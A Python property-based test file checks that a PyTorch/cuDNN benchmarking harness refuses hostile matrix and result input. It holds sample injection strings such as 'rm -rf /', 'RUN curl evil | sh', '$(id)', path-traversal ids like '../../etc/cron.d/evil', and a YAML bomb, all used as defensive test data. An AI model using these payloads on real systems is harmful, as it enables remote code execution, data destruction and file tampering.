"""Hostile input, property-based (hypothesis): malformed matrices and result documents of every kind.

Whatever the input, the harness either accepts it, and then every value that reaches a shell, a
Dockerfile or a path is safe, or refuses it with located problems (exit 2): it never crashes, and
nothing is executed or merged.
"""

from __future__ import annotations

import atexit
import copy
import json
import re
import shutil
import tempfile
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from harness import jsonio
from harness.backends import registry
from harness.backends.docker import dockerfile
from harness.errors import InputError
from harness.plan import matrix
from harness.plan.model import Plan
from harness.results import documents
from harness.suite.timing.summary import summarize
from tests.conftest import run_cli
from tests.evidence import GPU_LOCAL_CUDNN_SOURCES

VALID = {
    "schema_version": 1,
    "name": "hostile",
    "backend": "docker",
    "axes": {
        "torch": ["2.11.0+cu130", "2.13.0+cpu"],
        "cudnn": ["bundled", {"system": "9.14.0.64"}, "disabled", {"wheel": "9.19.0.56"}],
        "base_image": ["auto"],
        "python": ["3.12"],
    },
    "knobs": {"cudnn_benchmark": [False, True]},
    "suite": {"profile": "smoke", "dtypes": ["fp32"], "time_budget_s": 0.5},
    "rounds": 2,
    "rules": {
        "exclude": [{"torch": "2.13.0+cpu", "cudnn": "wheel"}, {"torch": "2.13.0+cpu", "cudnn": "system"}]
    },
    "baseline": {"torch": "2.11.0+cu130", "cudnn": "bundled"},
    "thresholds": {"regression_pct": 5},
}
INJECTIONS = [
    "2.13.0+cpu\n",
    "2.13.0+cpu; rm -rf /",
    "$(id)",
    "`id`",
    "../../etc/passwd",
    "a\nRUN curl evil | sh",
    'x" && echo pwned "',
    "debian:12 AS evil",
    "/abs/../../root",
    "9.1\n",
    "--index-url=http://evil",
    "\x00",
    "ok\r",
    "é",
    "a" * 300,
]
SAFE_ID = re.compile(r"\A[A-Za-z0-9][A-Za-z0-9._-]*\Z")
WORKLOADS = ["gemm", "relu"]
SCRATCH = Path(tempfile.mkdtemp(prefix="hostile-"))
atexit.register(shutil.rmtree, SCRATCH, ignore_errors=True)  # made at import, for hypothesis's tests

json_leaf = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False),
    st.text(max_size=40),
    st.sampled_from(INJECTIONS),
)
json_value = st.recursive(
    json_leaf,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
    max_leaves=12,
)


def test_the_valid_matrix_is_valid_before_it_is_damaged():
    assert len(load(VALID).cells) == 6  # else every case below is a refusal, and nothing accepted is checked


def paths(node: Any, prefix: tuple = ()) -> list[tuple]:
    """Every path to a value in a JSON-like tree, containers included."""
    found = [prefix]
    if isinstance(node, dict):
        for key, value in node.items():
            found += paths(value, (*prefix, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            found += paths(value, (*prefix, index))
    return found


def replaced(tree: Any, path: tuple, value: Any) -> Any:
    tree = copy.deepcopy(tree)
    if not path:
        return value
    parent = tree
    for key in path[:-1]:
        parent = parent[key]
    parent[path[-1]] = value
    return tree


def load(document: Any) -> Plan:
    path = SCRATCH / "matrix.yaml"
    path.write_text(yaml.safe_dump(document, allow_unicode=True))
    return matrix.load(path, WORKLOADS, registry.cell_problems)


def assert_safe(plan: Plan) -> None:
    """What an accepted matrix can carry into a path, a shell command or a Dockerfile."""
    assert SAFE_ID.match(plan.name)
    for cell in plan.cells:
        assert SAFE_ID.match(cell.id) and ".." not in cell.id and len(cell.id) < 200, cell.id
        for value in (cell.torch, cell.base_image, cell.python, str(cell.cudnn.value or "")):
            assert not any(c in value for c in "\n\r\x00 ;$`\"'|&<>\\"), value
        if plan.backend == "docker":
            rendered = dockerfile.render(cell, dockerfile.BuildOptions())
            assert f"torch=={cell.torch}" in rendered.dockerfile and SAFE_ID.match(
                rendered.reference.split(":")[-1]
            )


@pytest.mark.slow
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=st.data())
def test_any_one_field_replaced_by_anything_is_accepted_safely_or_refused_with_its_location(data):
    path = data.draw(st.sampled_from(paths(VALID)))
    value = data.draw(json_value)
    document = replaced(VALID, path, value)
    try:
        plan = load(document)
    except InputError as exc:
        assert exc.problems and all(str(SCRATCH) in str(p) for p in exc.problems)
        return
    assert_safe(plan)


@settings(max_examples=100, deadline=None)
@given(
    path=st.sampled_from([p for p in paths(VALID) if p and isinstance(p[-1], (str, int))]),
    injection=st.sampled_from(INJECTIONS),
)
def test_injections_in_any_string_field_never_get_through(path, injection):
    document = replaced(VALID, path, injection)
    try:
        plan = load(document)
    except InputError:
        return
    assert_safe(plan)


@settings(max_examples=200, deadline=None)
@given(text=st.text(max_size=400) | st.binary(max_size=400).map(lambda b: b.decode("latin-1")))
def test_arbitrary_text_is_a_matrix_or_a_clear_refusal(text):
    path = SCRATCH / "text.yaml"
    path.write_text(text, encoding="utf-8", errors="surrogatepass")
    try:
        plan = matrix.load(path, WORKLOADS, registry.cell_problems)
    except InputError as exc:
        assert exc.problems
        return
    assert_safe(plan)


@pytest.mark.slow
def test_bombs_and_deep_nesting_are_refused_not_a_crash(tmp_path):
    laughs = ['a: &a ["x","x","x","x","x","x","x","x","x"]'] + [
        f"{chr(97 + i)}: &{chr(97 + i)} [" + ",".join([f"*{chr(96 + i)}"] * 9) + "]" for i in range(1, 10)
    ]
    for name, text in {"laughs.yaml": "\n".join(laughs), "deep.yaml": "[" * 100_000}.items():
        done = (
            run_cli("plan", "--matrix", str(tmp_path / name)) if (tmp_path / name).write_text(text) else None
        )
        assert done.returncode == 2 and "invalid YAML" in done.stderr and "Traceback" not in done.stderr


def test_the_cli_refuses_an_injection_with_exit_2_and_runs_nothing(tmp_path):
    document = replaced(VALID, ("axes", "torch", 0), "2.13.0+cpu\nRUN curl http://evil | sh")
    path = tmp_path / "matrix.yaml"
    path.write_text(yaml.safe_dump(document))
    done = run_cli("run", "--matrix", str(path), "--out", str(tmp_path / "r"))
    assert done.returncode == 2 and "axes.torch[0]" in done.stderr and "Traceback" not in done.stderr
    assert not (tmp_path / "r").exists()  # nothing was run, nothing written


SMALL_RESULT = jsonio.read(next((GPU_LOCAL_CUDNN_SOURCES / "results").glob("torch*.json.gz")))
SMALL_RESULT["measurements"] = SMALL_RESULT["measurements"][:2]
for _m in SMALL_RESULT["measurements"]:  # 5 equal samples: small, and still a consistent document
    if _m["status"] == "ok":
        _median = _m["stats"]["median"]
        _m["samples_s"] = [_median] * 5
        _m["sm_clock_mhz"] = (_m.get("sm_clock_mhz") or [None] * 5)[:5]
        _m["stats"] = summarize(_m["samples_s"])


def test_the_small_result_is_valid_before_it_is_damaged(tmp_path):
    file = tmp_path / "result.json"
    file.write_text(json.dumps(SMALL_RESULT))
    assert documents.check(file)[1] == []


@pytest.mark.slow
@settings(max_examples=300, deadline=None)
@given(data=st.data())
def test_a_result_with_any_field_replaced_is_checked_without_crashing(data):
    path = data.draw(st.sampled_from(paths(SMALL_RESULT)))
    value = data.draw(json_value | st.sampled_from([float("nan"), float("inf"), -1.0, 0.0, 1e308]))
    file = SCRATCH / "result.json"
    file.write_text(json.dumps(replaced(SMALL_RESULT, path, value)))
    document, problems = documents.check(file)
    assert (document is None) == bool(problems)
    if value != value or (value in (float("inf"), -1.0) and path[-2:-1] == ("samples_s",)):
        assert problems  # NaN never passes; nor does a negative or infinite time


@pytest.mark.slow
def test_a_result_naming_a_path_outside_its_folder_is_refused(tmp_path):
    for forged_id in ("../../etc/cron.d/evil", "/tmp/evil", "..", "a/../../b"):
        document = copy.deepcopy(SMALL_RESULT)
        document["cell"]["id"] = forged_id
        file = tmp_path / "forged.json"
        file.write_text(json.dumps(document))
        assert documents.check(file)[0] is None
        done = run_cli("rerun", str(file), "--out", str(tmp_path / "out"))
        assert done.returncode == 2 and "cell.id" in done.stderr and "Traceback" not in done.stderr
        assert not (tmp_path / "out").exists() and not (tmp_path.parent / "etc").exists()


@pytest.mark.slow
def test_a_matrix_of_too_many_cells_is_refused_before_it_is_expanded(tmp_path):
    document = copy.deepcopy(VALID)
    document["axes"] = {
        "torch": [f"2.{i}.0+cu130" for i in range(100)],
        "cudnn": [{"wheel": f"9.{i}.0.1"} for i in range(100)],
        "base_image": [f"repo/img:{i}" for i in range(100)],
        "python": [f"3.{i}" for i in range(100)],
    }  # 10^8 cells: once a minute per 10^6 and past 5 GB
    path = tmp_path / "matrix.yaml"
    path.write_text(yaml.safe_dump(document))
    done = run_cli("plan", "--matrix", str(path), timeout=120)
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert "expands to 100000000 cells (100 torch x 100 cudnn x 100 base_image x 100 python)" in done.stderr
    document["axes"]["torch"] = [f"2.{i}.0+cu130" for i in range(1100)]  # one axis alone: the schema's limit
    path.write_text(yaml.safe_dump(document))
    done = run_cli("plan", "--matrix", str(path), timeout=120)
    assert done.returncode == 2 and "axes.torch" in done.stderr and "is too long" in done.stderr


def test_what_a_backend_would_ignore_or_guess_is_refused(tmp_path):
    local = {**copy.deepcopy(VALID), "backend": "local"}
    local["axes"] = {"torch": ["installed"], "cudnn": ["bundled", "disabled"], "base_image": ["a", "b"]}
    local["baseline"] = {"cudnn": "bundled", "base_image": "a"}
    del local["rules"]
    try:
        load(local)
        raise AssertionError("a base_image axis on the local backend gave identical cells")
    except InputError as exc:
        assert {p.field for p in exc.problems} == {"axes.base_image"}
        assert "the local backend runs no image" in str(exc)
    unknown = copy.deepcopy(VALID)
    unknown["axes"]["torch"] = ["2.11.0+cu130", "2.11.0+cu999"]  # once built silently on the cu130 base
    del unknown["rules"]
    try:
        load(unknown)
        raise AssertionError("torch +cu999 was accepted")
    except InputError as exc:
        assert "no CUDA base image is known for cu999" in str(exc)
    unknown["axes"]["base_image"] = ["nvidia/cuda:13.0.1-base-ubuntu24.04"]  # named: no guess needed
    assert len(load(unknown).cells) == 8
